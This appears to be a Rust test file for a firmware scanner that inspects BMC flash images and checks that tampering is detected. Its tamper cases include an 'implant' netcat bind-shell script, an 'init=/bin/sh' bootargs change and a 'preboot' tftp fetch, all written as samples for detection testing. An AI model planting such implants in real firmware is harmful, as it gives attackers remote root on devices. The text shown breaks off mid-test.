//! BMC flash images built with real tools (see tests/support/bmc.rs): layout discovery, partition, FIT
//! and rofs file level inspection checked against `dumpimage -l` and `unsquashfs` + `sha256sum`, tamper
//! cases named by code and path, per-machine changes that must stay clean, and malformed inputs.

use crate::harness::run as fwscan;
use crate::support;

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::{Arc, OnceLock};
use std::time::{Duration, Instant};

use serde_json::Value;
use support::bmc::{self as b, Pieces};

struct Base {
    dir: PathBuf,
    p32: Pieces,
    p64: Pieces,
    img32: PathBuf,
    img64: PathBuf,
    manifest32: PathBuf,
}

fn base() -> Option<&'static Base> {
    static BASE: OnceLock<Option<Base>> = OnceLock::new();
    BASE.get_or_init(|| {
        if !b::available() {
            return None;
        }
        let dir = b::scratch("base");
        let d32 = dir.join("32");
        let d64 = dir.join("64");
        std::fs::create_dir_all(&d32).unwrap();
        std::fs::create_dir_all(&d64).unwrap();
        let p32 = b::build(&d32, b::LAYOUT_32, b::UBOOT_32, true);
        let p64 = b::build(&d64, b::LAYOUT_64, b::UBOOT_64, false);
        let img32 = dir.join("bmc32.bin");
        let img64 = dir.join("bmc64.bin");
        std::fs::write(&img32, p32.image(b::LAYOUT_32)).unwrap();
        std::fs::write(&img64, p64.image(b::LAYOUT_64)).unwrap();
        let manifest32 = dir.join("bmc32.manifest.json");
        let (code, _, err) = fwscan(&[
            "baseline",
            img32.to_str().unwrap(),
            "-o",
            manifest32.to_str().unwrap(),
            "--component",
            "bmc",
        ]);
        assert_eq!(code, 0, "baseline failed: {err}");
        Some(Base {
            dir,
            p32,
            p64,
            img32,
            img64,
            manifest32,
        })
    })
    .as_ref()
}

fn inspect(img: &Path) -> Value {
    let (code, out, err) = fwscan(&["inspect", img.to_str().unwrap(), "--format", "json"]);
    assert_eq!(code, 0, "inspect failed: {err}");
    serde_json::from_str(&out).unwrap()
}

/// Every node of an inspect document by path.
fn nodes(doc: &Value) -> BTreeMap<String, Value> {
    fn rec(n: &Value, out: &mut BTreeMap<String, Value>) {
        out.insert(n["path"].as_str().unwrap().to_string(), n.clone());
        for c in n["children"].as_array().into_iter().flatten() {
            rec(c, out);
        }
    }
    let mut out = BTreeMap::new();
    rec(&doc["root"], &mut out);
    out
}

type Found = Vec<(String, String, String)>;

/// Scans `image` against the 32 MiB baseline: exit code, (code, path, message) of each finding, and how
/// many compressed nodes the scan had to expand.
fn scan32(base: &Base, name: &str, image: &[u8]) -> (i32, Found, u64) {
    let path = base.dir.join(name);
    std::fs::write(&path, image).unwrap();
    let (code, out, err) = fwscan(&[
        "scan",
        path.to_str().unwrap(),
        "--manifest",
        base.manifest32.to_str().unwrap(),
        "--insecure-unsigned",
        "--format",
        "json",
    ]);
    let doc: Value = serde_json::from_str(&out).unwrap_or_else(|e| panic!("{e}: {out} {err}"));
    let findings = crate::harness::code_path_messages(&doc);
    let _ = std::fs::remove_file(&path);
    (
        code,
        findings,
        doc["stats"]["nodes_expanded"].as_u64().unwrap(),
    )
}

fn has(findings: &[(String, String, String)], code: &str, path: &str) -> bool {
    findings.iter().any(|(c, p, _)| c == code && p == path)
}

/// Offset of the `image[kernel-1]` data in the 32 MiB image (from the tree, checked against the FIT).
fn kernel_data(base: &Base) -> (u64, u64) {
    let n = nodes(&inspect(&base.img32));
    let k = &n["kernel/fit/image[kernel-1]"];
    (k["offset"].as_u64().unwrap(), k["size"].as_u64().unwrap())
}

fn check_inspect(img: &Path, dir: &Path, p: &Pieces, layout: &[(&str, u64, u64)], source: &str) {
    let doc = inspect(img);
    assert_eq!(doc["format"], "bmc");
    let n = nodes(&doc);
    // Every partition, where the layout says, with the layout's source.
    for (name, off, size) in layout {
        let part = n
            .get(*name)
            .unwrap_or_else(|| panic!("partition {name} missing"));
        assert_eq!(part["offset"].as_u64(), Some(*off), "{name}");
        assert_eq!(part["size"].as_u64(), Some(*size), "{name}");
        assert_eq!(part["attrs"]["layout-source"], source, "{name}");
    }
    assert_eq!(n["rwfs"]["policy"], "mutable");
    assert_eq!(n["u-boot-env/env"]["policy"], "mutable");
    assert_eq!(n["u-boot-env/env/bootcmd"]["policy"], "static");
    assert_eq!(n["u-boot-env/env/bootcmd"]["attrs"]["pinned"], true);
    assert_eq!(
        n["u-boot-env/env/bootcmd"]["attrs"]["value"],
        "bootm 20080000"
    );
    assert_eq!(n["u-boot-env/env/ethaddr"]["policy"], "mutable");
    // U-Boot: code, the appended control device tree (up to the end of the content), then blank slack.
    let ub = &n["u-boot/u-boot-nodtb"];
    assert!(ub["attrs"]["version"]
        .as_str()
        .unwrap()
        .starts_with("U-Boot 20"));
    let uboot_len = p.uboot.iter().rposition(|&c| c != 0xFF).unwrap() as u64 + 1;
    // Malta's U-Boot (the 32 MiB image) appends its control DTB; QEMU arm's has none (the board gives it).
    assert_eq!(
        n.contains_key("u-boot/control-dtb"),
        layout == b::LAYOUT_32,
        "control DTB"
    );
    match n.get("u-boot/control-dtb") {
        Some(dtb) => {
            assert_eq!(dtb["offset"].as_u64(), ub["size"].as_u64());
            assert_eq!(
                dtb["offset"].as_u64().unwrap() + dtb["size"].as_u64().unwrap(),
                uboot_len
            );
        }
        None => assert_eq!(ub["size"].as_u64(), Some(uboot_len)),
    }
    assert_eq!(n["u-boot/slack"]["policy"], "blank");

    // FIT images equal `dumpimage -l`: names, sizes, stored hash values (and our digest = that sha256).
    let fit_path = dir.join("kernel.fit");
    let listing = b::run(dir, "dumpimage", &["-l", fit_path.to_str().unwrap()]);
    let mut images = Vec::new();
    let mut cur: Option<(String, u64, String)> = None;
    for line in listing.lines() {
        let t = line.trim();
        if let Some(rest) = t.strip_prefix("Image ") {
            if let Some(c) = cur.take() {
                images.push(c);
            }
            let name = rest
                .split('(')
                .nth(1)
                .unwrap()
                .trim_end_matches(')')
                .to_string();
            cur = Some((name, 0, String::new()));
        } else if t.starts_with("Default Configuration") || t.starts_with("Configuration ") {
            if let Some(c) = cur.take() {
                images.push(c);
            }
        } else if let Some(c) = cur.as_mut() {
            if let Some(v) = t.strip_prefix("Data Size:") {
                c.1 = v.split_whitespace().next().unwrap().parse().unwrap();
            } else if let Some(v) = t.strip_prefix("Hash value:") {
                c.2 = v.trim().to_string();
            }
        }
    }
    assert_eq!(images.len(), 2, "{listing}");
    let fit = &n["kernel/fit"];
    let listed: Vec<&str> = fit["attrs"]["images"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v.as_str().unwrap())
        .collect();
    for (name, size, hash) in &images {
        assert!(listed.contains(&name.as_str()));
        let node = &n[&format!("kernel/fit/image[{name}]")];
        assert_eq!(node["size"].as_u64(), Some(*size), "{name}");
        assert_eq!(node["digest"].as_str(), Some(hash.as_str()), "{name}");
        assert_eq!(
            node["attrs"]["hashes"][0]["value"].as_str(),
            Some(hash.as_str())
        );
        // The hash node checked out: `fit-hash` evidence, valid, protecting nothing (it sits in the FIT).
        let ev = node["evidence"].as_array().expect("evidence");
        assert!(
            ev.iter().any(|e| e["scheme"] == "fit-hash"
                && e["status"] == "valid"
                && e.get("protection").is_none()),
            "{name}: {ev:?}"
        );
    }
    assert_eq!(n["kernel/fit/image[kernel-1]"]["attrs"]["type"], "kernel");
    assert_eq!(n["kernel/fit/image[kernel-1]"]["attrs"]["arch"], "arm");
    assert_eq!(fit["attrs"]["default-configuration"], "conf-1");
    assert_eq!(fit["attrs"]["configurations"][0]["kernel"][0], "kernel-1");
    assert_eq!(fit["size"].as_u64(), Some(p.kernel.len() as u64));
    assert_eq!(n["kernel/slack"]["policy"], "blank");

    // rofs: every extracted file, symlink and directory is a node; file digests = sha256sum.
    let out = dir.join("extract");
    let _ = std::fs::remove_dir_all(&out);
    b::run(
        dir,
        "unsquashfs",
        &[
            "-q",
            "-n",
            "-d",
            out.to_str().unwrap(),
            dir.join("rofs.sqsh").to_str().unwrap(),
        ],
    );
    let mut count = 0;
    let mut stack = vec![out.clone()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).unwrap() {
            let e = e.unwrap();
            let rel = e
                .path()
                .strip_prefix(&out)
                .unwrap()
                .to_str()
                .unwrap()
                .to_string();
            let node = n
                .get(&format!("rofs/squashfs/{rel}"))
                .unwrap_or_else(|| panic!("rofs entry {rel} not in the tree"));
            assert_eq!(
                node["attrs"]["file-path"].as_str(),
                Some(format!("/{rel}").as_str())
            );
            let ft = e.file_type().unwrap();
            count += 1;
            if ft.is_symlink() {
                assert_eq!(node["kind"], "fs-symlink");
                let t = std::fs::read_link(e.path()).unwrap();
                assert_eq!(node["attrs"]["symlink-target"].as_str(), t.to_str());
            } else if ft.is_dir() {
                assert_eq!(node["kind"], "fs-dir");
                stack.push(e.path());
            } else {
                assert_eq!(node["kind"], "fs-file");
                let sum = b::run(dir, "sha256sum", &[e.path().to_str().unwrap()]);
                assert_eq!(
                    node["digest"].as_str(),
                    sum.split_whitespace().next(),
                    "{rel}"
                );
                assert_eq!(node["attrs"]["uid"], 0);
            }
        }
    }
    assert!(count >= 15, "only {count} rofs entries");
    let bb = &n["rofs/squashfs/bin/busybox"];
    assert_eq!(bb["attrs"]["mode"], "0755");
    assert!(bb["attrs"]["elf-type"].is_string(), "{bb}");
    assert!(bb["attrs"]["machine"].is_string());
    assert_eq!(n["rofs/slack"]["policy"], "blank");
    // The ELF summary agrees with binutils, where installed.
    if let Ok(out) = Command::new("readelf").args(["-n", b::BUSYBOX]).output() {
        let text = String::from_utf8_lossy(&out.stdout);
        if let Some(id) = text
            .lines()
            .find_map(|l| l.trim().strip_prefix("Build ID: "))
        {
            assert_eq!(bb["attrs"]["build-id"].as_str(), Some(id.trim()));
        }
    }
    // rwfs: per-machine, its files listed.
    let files = n["rwfs/jffs2"]["attrs"]["files"].as_array().unwrap();
    assert!(files.iter().any(|f| f == "/etc/hostname"), "{files:?}");
    // A clean image has no findings at all.
    assert_eq!(
        crate::harness::code_paths(&doc),
        vec![],
        "clean image has findings"
    );
}

#[test]
fn inspect_32m_device_tree_layout_matches_the_reference_tools() {
    let Some(base) = base() else { return };
    check_inspect(
        &base.img32,
        &base.dir.join("32"),
        &base.p32,
        b::LAYOUT_32,
        "device-tree",
    );
}

#[test]
fn inspect_64m_preset_layout_matches_the_reference_tools() {
    let Some(base) = base() else { return };
    check_inspect(
        &base.img64,
        &base.dir.join("64"),
        &base.p64,
        b::LAYOUT_64,
        "preset:openbmc-64M",
    );
    // And a 64 MiB image scans clean against its own baseline, changed rwfs or not.
    let m = base.dir.join("bmc64.manifest.json");
    let (code, _, err) = fwscan(&[
        "baseline",
        base.img64.to_str().unwrap(),
        "-o",
        m.to_str().unwrap(),
    ]);
    assert_eq!(code, 0, "{err}");
    let (code, out, _) = fwscan(&[
        "scan",
        base.img64.to_str().unwrap(),
        "-m",
        m.to_str().unwrap(),
        "--insecure-unsigned",
    ]);
    assert_eq!(code, 0, "{out}");
}

#[test]
fn clean_and_per_machine_changes_exit_zero() {
    let Some(base) = base() else { return };
    let (code, f, expanded) = scan32(base, "clean.bin", &base.p32.image(b::LAYOUT_32));
    assert_eq!((code, f.len()), (0, 0), "{f:?}");
    assert_eq!(expanded, 0, "a clean scan decompressed the rofs");
    // rwfs content and an unpinned variable (ethaddr) change per machine; a new unpinned one appears.
    let dir = b::scratch("machine");
    let mut p = base.p32.clone();
    p.rwfs = b::jffs2(
        &dir,
        &[
            ("etc/hostname", "bmc-0002\n"),
            ("etc/machine-id", "0123456789abcdef\n"),
        ],
        "rw2.jffs2",
    );
    let text = b::ENV.replace("00:11:22:33:44:55", "00:11:22:33:44:66") + "serial#=XYZ123\n";
    p.env = b::env(&dir, &text, "env2.bin");
    let (code, f, _) = scan32(base, "machine.bin", &p.image(b::LAYOUT_32));
    assert_eq!(code, 0, "per-machine changes gave findings: {f:?}");

    // A factory image with a blank environment and a blank rwfs: the first boot writes both.
    let mut factory = base.p32.clone();
    factory.env = Vec::new();
    factory.rwfs = Vec::new();
    let golden = dir.join("factory.bin");
    std::fs::write(&golden, factory.image(b::LAYOUT_32)).unwrap();
    let m = dir.join("factory.json");
    let (code, _, err) = fwscan(&[
        "baseline",
        golden.to_str().unwrap(),
        "-o",
        m.to_str().unwrap(),
    ]);
    assert_eq!(code, 0, "{err}");
    let booted = dir.join("booted.bin");
    std::fs::write(&booted, p.image(b::LAYOUT_32)).unwrap();
    let (code, out, _) = fwscan(&[
        "scan",
        booted.to_str().unwrap(),
        "-m",
        m.to_str().unwrap(),
        "--insecure-unsigned",
    ]);
    assert_eq!(code, 0, "{out}");
}

#[test]
fn tampering_is_detected_and_named() {
    let Some(base) = base() else { return };
    let dir = b::scratch("tamper");
    let clean = base.p32.image(b::LAYOUT_32);

    // 1. bytes patched in U-Boot.
    let mut img = clean.clone();
    img[0x1000] ^= 0x5A;
    img[0x1001] ^= 0x5A;
    let (code, f, _) = scan32(base, "uboot.bin", &img);
    assert_eq!(code, 1);
    assert!(has(&f, "region-modified", "u-boot/u-boot-nodtb"), "{f:?}");

    // 2. one rofs binary replaced (same path); 3. a file added.
    let root = b::make_root(&dir);
    let mut other = std::fs::read("/usr/lib/u-boot/qemu_arm/uboot.elf").unwrap();
    other.truncate(200_000);
    std::fs::write(root.join("bin/busybox"), &other).unwrap();
    let mut p = base.p32.clone();
    p.rofs = b::squashfs(&dir, &root, "replaced.sqsh");
    let (code, f, expanded) = scan32(base, "replaced.bin", &p.image(b::LAYOUT_32));
    assert_eq!(expanded, 1, "the changed squashfs is expanded once");
    assert_eq!(code, 1);
    assert!(
        has(&f, "file-modified", "rofs/squashfs/bin/busybox"),
        "{f:?}"
    );
    assert!(
        !f.iter()
            .any(|(c, p, _)| c == "file-modified" && p == "rofs/squashfs/etc/passwd"),
        "unchanged files reported: {f:?}"
    );
    let root = b::make_root(&dir);
    std::fs::write(
        root.join("usr/sbin/implant"),
        b"#!/bin/sh\nnc -l -p 4444 -e /bin/sh\n",
    )
    .unwrap();
    p.rofs = b::squashfs(&dir, &root, "added.sqsh");
    let (code, f, _) = scan32(base, "added.bin", &p.image(b::LAYOUT_32));
    assert_eq!(code, 1);
    assert!(
        has(&f, "file-added", "rofs/squashfs/usr/sbin/implant"),
        "{f:?}"
    );
    assert!(
        !f.iter()
            .any(|(c, _, _)| c == "file-modified" || c == "file-removed"),
        "an addition reported as other changes: {f:?}"
    );

    // 3b. a mode change only (setuid busybox): the directory listing covers modes.
    let root = b::make_root(&dir);
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(
        root.join("bin/busybox"),
        std::fs::Permissions::from_mode(0o4755),
    )
    .unwrap();
    p.rofs = b::squashfs(&dir, &root, "setuid.sqsh");
    let (code, f, _) = scan32(base, "setuid.bin", &p.image(b::LAYOUT_32));
    assert_eq!(code, 1);
    assert!(has(&f, "file-modified", "rofs/squashfs/bin"), "{f:?}");
    assert!(
        !has(&f, "file-modified", "rofs/squashfs/bin/busybox"),
        "{f:?}"
    );

    // 4. FIT kernel swapped, hash updated: the kernel image is named, no stale-hash note.
    let mut p = base.p32.clone();
    p.kernel = b::fit(
        &dir,
        &b::kernel_bytes(2, 600_000),
        &b::dts(Some(b::LAYOUT_32)),
        "swapped.fit",
    );
    let (code, f, _) = scan32(base, "swapped.bin", &p.image(b::LAYOUT_32));
    assert_eq!(code, 1);
    assert!(
        has(&f, "region-modified", "kernel/fit/image[kernel-1]"),
        "{f:?}"
    );
    assert!(!f.iter().any(|(c, _, _)| c == "fit-hash-mismatch"), "{f:?}");
    assert!(
        !has(&f, "region-modified", "kernel/fit/image[fdt-1]"),
        "{f:?}"
    );

    // 5. kernel bytes changed, embedded hash left stale: found with and without a manifest.
    let (koff, klen) = kernel_data(base);
    let mut img = clean.clone();
    img[(koff + klen / 2) as usize] ^= 0xFF;
    let (code, f, _) = scan32(base, "stale.bin", &img);
    assert_eq!(code, 1);
    assert!(
        has(&f, "fit-hash-mismatch", "kernel/fit/image[kernel-1]"),
        "{f:?}"
    );
    let stale = dir.join("stale.bin");
    std::fs::write(&stale, &img).unwrap();
    let codes = crate::harness::code_paths(&inspect(&stale));
    assert!(
        codes.contains(&(
            "fit-hash-mismatch".into(),
            "kernel/fit/image[kernel-1]".into()
        )),
        "{codes:?}"
    );

    // 6. a payload written into slack after a partition's content (kernel and rofs).
    for (name, at) in [
        ("kernel", 0x80000 + 0x300000),
        ("rofs", 0x4C0000 + 0x1000000),
    ] {
        let mut img = clean.clone();
        img[at..at + 64].copy_from_slice(&[0x90; 64]);
        let (code, f, _) = scan32(base, "slack.bin", &img);
        assert_eq!(code, 1);
        assert!(has(&f, "not-blank", &format!("{name}/slack")), "{f:?}");
    }

    // 7. bootargs changed in the environment: named with old and new value.
    let mut p = base.p32.clone();
    let text = b::ENV.replace("root=/dev/ram rw", "root=/dev/ram rw init=/bin/sh");
    p.env = b::env(&dir, &text, "evil-env.bin");
    let (code, f, _) = scan32(base, "env.bin", &p.image(b::LAYOUT_32));
    assert_eq!(code, 1);
    let vm = f
        .iter()
        .find(|(c, p, _)| c == "variable-modified" && p == "u-boot-env/env/bootargs")
        .unwrap_or_else(|| panic!("{f:?}"));
    assert!(vm.2.contains("root=/dev/ram rw`"), "{}", vm.2);
    assert!(vm.2.contains("init=/bin/sh`"), "{}", vm.2);
    assert!(has(&f, "env-shell", "u-boot-env/env/bootargs"), "{f:?}");
    // A pinned variable added to the environment is a finding too.
    let mut p = base.p32.clone();
    p.env = b::env(
        &dir,
        &(b::ENV.to_string() + "preboot=tftp 0x83000000 evil\n"),
        "pre.bin",
    );
    let (code, f, _) = scan32(base, "pre.bin", &p.image(b::LAYOUT_32));
    assert_eq!(code, 1);
    assert!(
        has(&f, "variable-modified", "u-boot-env/env/preboot"),
        "{f:?}"
    );
}

fn parse(bytes: Vec<u8>) -> fwscan::region::Region {
    fwscan::formats::parse_image(
        Arc::new(fwscan::input::Data::Owned(bytes)),
        &fwscan::formats::ParseOptions::default(),
    )
}

fn parse_as(bytes: Vec<u8>, format: &str) -> fwscan::region::Region {
    fwscan::formats::parse_image(
        Arc::new(fwscan::input::Data::Owned(bytes)),
        &fwscan::formats::ParseOptions {
            format: Some(format.into()),
            ..Default::default()
        },
    )
}

fn note_codes(tree: &fwscan::region::Region) -> Vec<(String, String)> {
    fwscan::region::note_findings(tree)
        .into_iter()
        .map(|f| (f.code.as_str().to_string(), f.path))
        .collect()
}

#[test]
fn malformed_inputs_end_with_notes_in_bounded_time() {
    let Some(base) = base() else { return };
    let dir = b::scratch("malformed");
    let clean = base.p32.image(b::LAYOUT_32);
    let t0 = Instant::now();

    // Truncated images: never a panic; cut inside rofs, the content shows up as out of bounds.
    for cut in [0x70000usize, 0x100000, 0x500000, 0x1000000] {
        let tree = parse(clean[..cut].to_vec());
        let codes = note_codes(&tree);
        if cut == 0x1000000 {
            assert!(
                codes.iter().any(|(c, _)| c == "partition-out-of-bounds"),
                "cut {cut:#x}: {codes:?}"
            );
        }
    }

    // A device tree whose partitions overlap and exceed the flash.
    let mut bad = b::LAYOUT_32.to_vec();
    bad[3] = ("rofs", 0x400000, 0x1740000); // overlaps kernel
    bad[4] = ("rwfs", 0x1C00000, 0x1000000); // past the end
    let mut p = base.p32.clone();
    p.kernel = b::fit(
        &dir,
        &b::kernel_bytes(1, 600_000),
        &b::dts(Some(&bad)),
        "bad-dt.fit",
    );
    let tree = parse(p.image(b::LAYOUT_32));
    let codes = note_codes(&tree);
    assert!(
        codes.iter().any(|(c, _)| c == "partition-overlap"),
        "{codes:?}"
    );
    assert!(
        codes.iter().any(|(c, _)| c == "partition-out-of-bounds"),
        "{codes:?}"
    );
    assert!(
        codes
            .iter()
            .any(|(c, p)| c == "layout-mismatch" && p == "rofs"),
        "{codes:?}"
    );

    // A FIT whose external data size is absurd.
    let its = "/dts-v1/;\n/ { description = \"absurd\"; #address-cells = <1>;\n images { kernel-1 { type = \"kernel\"; arch = \"arm\"; compression = \"none\"; data-offset = <0x0>; data-size = <0x7fffffff>; hash-1 { algo = \"sha256\"; value = [00]; }; }; };\n configurations { default = \"c\"; c { kernel = \"kernel-1\"; }; }; };\n";
    std::fs::write(dir.join("absurd.its"), its).unwrap();
    b::run(
        &dir,
        "dtc",
        &[
            "-q",
            "-I",
            "dts",
            "-O",
            "dtb",
            "-o",
            "absurd.itb",
            "absurd.its",
        ],
    );
    let mut p = base.p32.clone();
    p.kernel = std::fs::read(dir.join("absurd.itb")).unwrap();
    let tree = parse(p.image(b::LAYOUT_32));
    let codes = note_codes(&tree);
    assert!(
        codes.contains(&("partition-out-of-bounds".into(), "kernel/fit".into())),
        "{codes:?}"
    );

    // squashfs with corrupted tables, and with many single-byte corruptions: notes, no panic.
    let rofs = &base.p32.rofs;
    let dir_table = u64::from_le_bytes(rofs[72..80].try_into().unwrap()) as usize;
    let inode_table = u64::from_le_bytes(rofs[64..72].try_into().unwrap()) as usize;
    let mut p = base.p32.clone();
    for i in 0..64 {
        p.rofs[dir_table + i] ^= 0xA5;
        p.rofs[inode_table + i] ^= 0x3C;
    }
    let tree = parse(p.image(b::LAYOUT_32));
    let codes = note_codes(&tree);
    assert!(
        codes
            .iter()
            .any(|(c, p)| p.starts_with("rofs") && (c == "unparsed" || c == "decompress-failed")),
        "{codes:?}"
    );
    let mut p = base.p32.clone();
    p.rofs[64..72].copy_from_slice(&u64::MAX.to_le_bytes());
    let codes = note_codes(&parse(p.image(b::LAYOUT_32)));
    assert!(
        codes
            .iter()
            .any(|(c, p)| c == "unparsed" && p == "rofs/squashfs"),
        "{codes:?}"
    );
    // Deterministic corruption sweep over the superblock and the tables of a small filesystem.
    let small = dir.join("small");
    std::fs::create_dir_all(small.join("a/b")).unwrap();
    std::fs::write(small.join("a/b/f"), "hello").unwrap();
    std::os::unix::fs::symlink("b/f", small.join("a/l")).unwrap();
    let sq = b::squashfs(&dir, &small, "small.sqsh");
    let used = u64::from_le_bytes(sq[40..48].try_into().unwrap()) as usize;
    let mut x = 12345u32;
    for i in 0..400 {
        let mut s = sq.clone();
        x ^= x << 13;
        x ^= x >> 17;
        x ^= x << 5;
        let at = if i < 96 {
            i
        } else {
            96 + (x as usize) % (used - 96)
        };
        s[at] ^= (x >> 8) as u8 | 1;
        let one = Instant::now();
        let _ = parse_as(s, "squashfs");
        assert!(
            one.elapsed() < Duration::from_secs(5),
            "corruption at {at} took too long"
        );
    }

    // A directory loop: `loopdir_a/loopdir_b` pointed back at `loopdir_a` (uncompressed metadata, so the
    // directory entry can be patched in place; `unsquashfs` says "directory loop detected").
    let lp = dir.join("lp");
    std::fs::create_dir_all(lp.join("loopdir_a/loopdir_b")).unwrap();
    std::fs::write(lp.join("loopdir_a/loopdir_b/f"), "x").unwrap();
    let _ = std::fs::remove_file(dir.join("lp.sqsh"));
    b::run(
        &dir,
        "mksquashfs",
        &[
            "lp",
            "lp.sqsh",
            "-noI",
            "-noD",
            "-noF",
            "-noX",
            "-noappend",
            "-quiet",
            "-no-progress",
        ],
    );
    let mut sq = std::fs::read(dir.join("lp.sqsh")).unwrap();
    make_loop(&mut sq);
    let mut p = base.p32.clone();
    p.rofs = sq;
    let one = Instant::now();
    let tree = parse(p.image(b::LAYOUT_32));
    assert!(one.elapsed() < Duration::from_secs(5));
    let codes = note_codes(&tree);
    assert!(
        codes
            .iter()
            .any(|(c, p)| c == "unparsed" && p == "rofs/squashfs"),
        "{codes:?}"
    );

    // Environment with a wrong CRC.
    let mut p = base.p32.clone();
    p.env[0] ^= 1;
    let codes = note_codes(&parse(p.image(b::LAYOUT_32)));
    assert!(
        codes.contains(&("env-crc".into(), "u-boot-env/env".into())),
        "{codes:?}"
    );

    assert!(
        t0.elapsed() < Duration::from_secs(120),
        "malformed inputs took {:?}",
        t0.elapsed()
    );
}

/// Points the directory entry `loopdir_b` (the only entry of `loopdir_a`) at `loopdir_a`'s own inode.
fn make_loop(d: &mut [u8]) {
    let find = |d: &[u8], name: &[u8]| {
        let i = d.windows(name.len()).position(|w| w == name).unwrap();
        assert!(d[i + 1..].windows(name.len()).all(|w| w != name));
        let e = i - 8;
        let h = e - 12;
        let u16_at = |o: usize| u16::from_le_bytes([d[o], d[o + 1]]);
        let u32_at = |o: usize| u32::from_le_bytes(d[o..o + 4].try_into().unwrap());
        // (entry offset, inode offset in block, inode delta, header start block, header inode number)
        (
            e,
            u16_at(e),
            u16_at(e + 2) as i16,
            u32_at(h + 4),
            u32_at(h + 8),
        )
    };
    let (_, a_off, a_delta, a_start, a_base) = find(d, b"loopdir_a");
    let (eb, _, _, _, b_base) = find(d, b"loopdir_b");
    let a_num = a_base as i64 + a_delta as i64;
    let delta = (a_num - b_base as i64) as i16;
    d[eb..eb + 2].copy_from_slice(&a_off.to_le_bytes());
    d[eb + 2..eb + 4].copy_from_slice(&delta.to_le_bytes());
    d[eb - 12 + 4..eb - 12 + 8].copy_from_slice(&a_start.to_le_bytes());
}

#[test]
fn legacy_uimage_kernel_with_the_32m_preset() {
    let Some(base) = base() else { return };
    let dir = b::scratch("uimage");
    std::fs::write(dir.join("Image"), b::kernel_bytes(7, 300_000)).unwrap();
    b::run(
        &dir,
        "mkimage",
        &[
            "-A",
            "arm",
            "-O",
            "linux",
            "-T",
            "kernel",
            "-C",
            "none",
            "-a",
            "0x80008000",
            "-e",
            "0x80008000",
            "-n",
            "Linux-6.6.0-test",
            "-d",
            "Image",
            "uImage",
        ],
    );
    let mut p = base.p32.clone();
    p.kernel = std::fs::read(dir.join("uImage")).unwrap();
    let path = dir.join("u32.bin");
    let img = p.image(b::LAYOUT_32);
    std::fs::write(&path, &img).unwrap();
    let doc = inspect(&path);
    let n = nodes(&doc);
    // No device tree with partitions in a uImage: the preset, confirmed by the content.
    assert_eq!(n["kernel"]["attrs"]["layout-source"], "preset:openbmc-32M");
    let listing = b::run(&dir, "dumpimage", &["-l", "uImage"]);
    let size: u64 = listing
        .lines()
        .find_map(|l| l.trim().strip_prefix("Data Size:"))
        .and_then(|v| v.split_whitespace().next())
        .unwrap()
        .parse()
        .unwrap();
    let k = &n["kernel/uimage/image[Linux-6.6.0-test]"];
    assert_eq!(k["size"].as_u64(), Some(size), "{listing}");
    assert_eq!(k["attrs"]["type"], "kernel");
    assert_eq!(k["attrs"]["arch"], "arm");
    assert!(listing.contains("Linux-6.6.0-test"));
    assert_eq!(crate::harness::code_paths(&doc), vec![]);
    // Both CRCs are evidence in inspect JSON: valid, and protecting nothing (they sit in the image).
    for path in [
        "kernel/uimage/header",
        "kernel/uimage/image[Linux-6.6.0-test]",
    ] {
        let ev = n[path]["evidence"].as_array().expect(path);
        assert_eq!(ev.len(), 1, "{path}: {ev:?}");
        assert_eq!(ev[0]["scheme"], "uimage-crc", "{path}");
        assert_eq!(ev[0]["status"], "valid", "{path}");
        assert!(ev[0].get("protection").is_none(), "{path}");
    }
    // Data and header CRCs.
    let mut bad = img.clone();
    bad[0x80000 + 64 + 1000] ^= 1;
    let tree = parse(bad);
    let ev = &tree
        .find("kernel/uimage/image[Linux-6.6.0-test]")
        .unwrap()
        .evidence;
    assert_eq!(ev[0].status.as_str(), "invalid", "{ev:?}");
    let codes = note_codes(&tree);
    assert!(
        codes.contains(&(
            "uimage-data-crc".into(),
            "kernel/uimage/image[Linux-6.6.0-test]".into()
        )),
        "{codes:?}"
    );
    let mut bad = img;
    bad[0x80000 + 16] ^= 1; // load address
    let codes = note_codes(&parse(bad));
    assert!(
        codes.contains(&("uimage-header-crc".into(), "kernel/uimage/header".into())),
        "{codes:?}"
    );
}

#[test]
fn ubi_layout_lists_volumes() {
    let Some(base) = base() else { return };
    let dir = b::scratch("ubi");
    std::fs::write(dir.join("kernel.fit"), &base.p32.kernel).unwrap();
    std::fs::write(dir.join("rofs.sqsh"), &base.p32.rofs).unwrap();
    let cfg = "[kernel]\nmode=ubi\nimage=kernel.fit\nvol_id=0\nvol_type=static\nvol_name=kernel-a\n\n\
               [rofs]\nmode=ubi\nimage=rofs.sqsh\nvol_id=1\nvol_type=dynamic\nvol_size=4MiB\nvol_name=rofs-a\n";
    std::fs::write(dir.join("ubi.cfg"), cfg).unwrap();
    let ubinize = if Path::new("/usr/sbin/ubinize").is_file() {
        "/usr/sbin/ubinize"
    } else {
        "ubinize"
    };
    b::run(
        &dir,
        ubinize,
        &["-o", "ubi.img", "-p", "64KiB", "-m", "1", "ubi.cfg"],
    );
    let ubi = std::fs::read(dir.join("ubi.img")).unwrap();
    let mut img = vec![0xFFu8; 32 << 20];
    img[..base.p32.uboot.len()].copy_from_slice(&base.p32.uboot);
    img[0x60000..0x60000 + base.p32.env.len()].copy_from_slice(&base.p32.env);
    img[0x80000..0x80000 + ubi.len()].copy_from_slice(&ubi);
    let path = dir.join("ubi32.bin");
    std::fs::write(&path, &img).unwrap();
    let n = nodes(&inspect(&path));
    assert_eq!(n["ubi"]["attrs"]["layout-source"], "ubi");
    assert_eq!(n["ubi"]["offset"].as_u64(), Some(0x80000));
    assert_eq!(n["u-boot-env"]["size"].as_u64(), Some(0x20000));
    assert!(n.contains_key("u-boot-env/env/bootcmd"));
    let u = &n["ubi/ubi"]["attrs"];
    assert_eq!(u["peb-size"].as_u64(), Some(0x10000));
    let vols = u["volumes"].as_array().unwrap();
    let names: Vec<(&str, &str)> = vols
        .iter()
        .map(|v| (v["name"].as_str().unwrap(), v["type"].as_str().unwrap()))
        .collect();
    assert_eq!(names, vec![("kernel-a", "static"), ("rofs-a", "dynamic")]);
    // LEBs found for the kernel volume: its size in 64 KiB PEBs minus headers.
    assert!(vols[0]["lebs-found"].as_u64().unwrap() >= base.p32.kernel.len() as u64 / 0x10000);
    // Volumes are reassembled and parsed: the FIT and every rofs file, pinned inside the mutable UBI area.
    assert_eq!(n["ubi/ubi"]["policy"], "mutable");
    let k = &n["ubi/ubi/volume[kernel-a]"];
